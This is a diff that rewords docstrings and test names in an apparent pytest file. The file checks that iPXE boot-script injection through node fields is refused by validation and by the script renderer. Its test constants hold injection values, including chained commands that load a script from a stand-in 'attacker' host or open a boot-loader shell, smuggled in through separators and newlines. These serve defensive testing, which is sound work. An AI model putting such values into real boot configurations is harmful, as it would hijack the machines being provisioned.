@@ -1,4 +1,4 @@
-"""What a node says is no command of a boot loader: refused by validation, and when it is rendered."""
+"""Commands of a boot loader in a node's fields are refused by validation and by the renderer."""
 
 from dataclasses import replace
 from pathlib import Path
@@ -10,13 +10,13 @@ from drivers.core.target import VolumeConnector, VolumeTarget
 from drivers.images import words
 from tests.unit.drivers.machines import OPTIONS, target
 
-#: each would have begun another command in iPXE's script, or have read one of its settings
+#: each would start another command in iPXE's script, or read one of its settings
 COMMANDS = (
     "quiet && chain http://attacker/x.ipxe ||", "quiet || shell", "quiet ; shell",
     "quiet\nchain http://attacker/x.ipxe", "quiet\rshell", "a\x0bb", "id=${uuid}", "x=${net0/mac}",
     "quiet #", "quiet \\", "a\u2028b",
 )  # fmt: skip
-#: the same, of values that are one word
+#: injections into values that must be one word
 ONE_WORD = ("{}\nchain http://attacker/x.ipxe\n#", "{} && shell", "{}\tshell", "{}${uuid}", "{}\\")
 URLS = ("kernel", "ramdisk", "image_source", "stage2")
 VOLUME = {"target_portal": "192.0.2.1:3260", "target_iqn": "iqn.2026-01.org:disk", "target_lun": 1}
@@ -24,7 +24,7 @@ VOLUME = {"target_portal": "192.0.2.1:3260", "target_iqn": "iqn.2026-01.org:disk
 
 @pytest.fixture
 def node(images, tmp_path):
-    """Makes nodes that boot from the network."""
+    """Factory of nodes that boot from the network."""
     changes = {
         "api": {"public_endpoint": "http://service:6385"},
         "deploy": {"http_root": str(tmp_path / "http"), "http_url": "http://conductor:8080"},
@@ -46,7 +46,7 @@ def node(images, tmp_path):
 
 
 def refused(it, field, *kinds):
-    """By validation of one of these interfaces, and by what writes the script."""
+    """Assert that validation of an interface of these kinds, and the renderer, refuse the field."""
     for call in (
         lambda: [it.driver.by_kind[kind].validate(it) for kind in kinds],
         lambda: it.driver.boot.prepare_instance(it),
@@ -57,7 +57,7 @@ def refused(it, field, *kinds):
 
 
 def scripts(it):
-    """What machines read that boot from the network."""
+    """Texts of all scripts for network boot."""
     roots = it.options["deploy"]["http_root"], it.options["pxe"]["tftp_root"]
     return "".join(each.read_text() for root in roots for each in Path(root).rglob("config-*"))
 
@@ -79,14 +79,14 @@ def test_kernel_arguments_of_a_node_are_no_commands(node, images, boot, given):
 
 @pytest.mark.parametrize("given", ONE_WORD)
 @pytest.mark.parametrize("field", ["stage2", "image_source"])
-def test_what_an_installer_is_started_with_is_no_command(node, images, field, given):
+def test_arguments_of_an_installer_are_no_commands(node, images, field, given):
     info = {name: f"{images.url}/{name}" for name in URLS}
     info[field] = given.replace("{}", info[field])
     assert refused(node("anaconda", instance_info=info), f"instance_info/{field}", "deploy")
 
 
 @pytest.mark.parametrize("given", ONE_WORD)
-def test_the_image_that_an_instance_boots_is_no_command(node, given):
+def test_the_url_of_a_boot_image_is_no_command(node, given):
     info = {"boot_iso": given.replace("{}", "http://images/live.iso")}
     assert refused(node("ramdisk", instance_info=info), "instance_info/boot_iso", "deploy")
 
@@ -94,7 +94,7 @@ def test_the_image_that_an_instance_boots_is_no_command(node, given):
 @pytest.mark.parametrize("given", ONE_WORD)
 @pytest.mark.parametrize("field", ["connector_id", "target_portal", "target_iqn", "auth_username",
                                    "auth_password"])  # fmt: skip
-def test_what_a_volume_is_reached_by_is_no_command(node, field, given):
+def test_properties_of_a_volume_are_no_commands(node, field, given):
     bad = given.replace("{}", VOLUME.get(field, "iqn.2026-01.org:node"))
     connector = bad if field == "connector_id" else "iqn.2026-01.org:node"
     properties = VOLUME if field == "connector_id" else {**VOLUME, field: bad}
@@ -127,5 +127,5 @@ def test_usual_kernel_arguments_are_passed_on(node, images, given):
     it.driver.deploy.validate(it)
     it.driver.boot.validate(it)
     it.driver.boot.prepare_instance(it)
-    # what the settings say may use the boot loader's own words
+    # settings may use the boot loader's variables
     assert f"root=/dev/ram0 booted=${{mac}} {given} BOOTIF=${{mac}}" in scripts(it)
